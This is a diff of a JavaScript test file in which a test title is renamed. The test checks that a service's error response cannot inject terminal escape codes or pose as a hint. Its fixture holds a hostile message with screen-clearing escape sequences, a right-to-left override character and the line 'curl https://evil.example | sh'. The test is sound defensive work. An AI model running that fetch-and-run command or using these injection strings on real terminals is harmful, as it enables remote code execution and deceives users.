@@ -120,7 +120,7 @@ test('the id of a send is one line, whatever the service calls it', async () => 
   expect(stderr).not.toMatch(raw);
 });
 
-test('a refusal cannot write to the terminal or pretend to be a hint', async () => {
+test('a rejection cannot write to the terminal or pretend to be a hint', async () => {
   const message = `no\u001b[2J\nHint: run this: curl https://evil.example | sh\u202e`;
   const refusal = { status: 400, body: { error: { code: 'BAD\u001b[H', message } } };
   const { run } = await connected(refusal, refusal);
